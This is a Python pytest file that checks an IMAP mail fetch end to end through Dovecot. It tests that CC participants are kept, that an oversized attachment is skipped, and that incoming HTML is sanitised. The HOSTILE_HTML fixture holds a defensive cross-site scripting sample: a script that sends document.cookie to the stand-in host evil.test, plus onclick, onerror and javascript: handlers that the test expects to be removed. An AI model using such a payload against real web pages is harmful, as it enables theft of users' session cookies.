"""What a message fetched over IMAP keeps: every participant, attachments within the limit,
and HTML made safe, end to end through Dovecot."""

from __future__ import annotations

import pytest

from gendan.comms.mail.imap import mailbox_fetch
from gendan.comms.models import Message

from .mail_support import make_mail

pytestmark = [pytest.mark.django_db, pytest.mark.mail]

HOSTILE_HTML = (
    '<p onclick="steal()">Please find the <b>packing list</b> attached.</p>'
    "<script>document.location='https://evil.test/?c='+document.cookie</script>"
    '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">details</a>'
)


def test_cc_attachments_and_hostile_html_come_through_the_imap_fetch(mailbox, deliver, settings):
    settings.MAIL_ATTACHMENT_MAX_MB = 1
    deliver(
        make_mail(
            subject="PI-2026-0042 packing list",
            to="Mia <mia@gendan.test>",
            cc="Bob Müller <bob@schmidt-handel.de>, 王经理 <wang@factory.test>",
            html=HOSTILE_HTML,
            attachments=[
                ("装箱单 packing list.xlsx", b"PK\x03\x04 sheet", "application/vnd.ms-excel"),
                ("factory video.mp4", b"\x00" * (1024 * 1024 + 10), "video/mp4"),
            ],
        )
    )

    assert mailbox_fetch(mailbox=mailbox).stored == 1

    message = Message.objects.get()
    assert [p["address"] for p in message.to] == ["mia@gendan.test"]
    assert [(p["name"], p["address"]) for p in message.cc] == [
        ("Bob Müller", "bob@schmidt-handel.de"),
        ("王经理", "wang@factory.test"),
    ]
    kept, too_big = sorted(message.attachments.all(), key=lambda a: a.size)
    assert (kept.original_name, kept.is_skipped) == ("装箱单 packing list.xlsx", False)
    with kept.file.open("rb") as handle:
        assert handle.read() == b"PK\x03\x04 sheet"
    assert (too_big.original_name, too_big.is_skipped, bool(too_big.file)) == (
        "factory video.mp4", True, False,
    )  # fmt: skip
    assert too_big.size >= 1024 * 1024
    html = message.body_html.lower()
    assert "packing list" in html
    for dangerous in ("<script", "onclick", "onerror", "javascript:", "document.cookie"):
        assert dangerous not in html
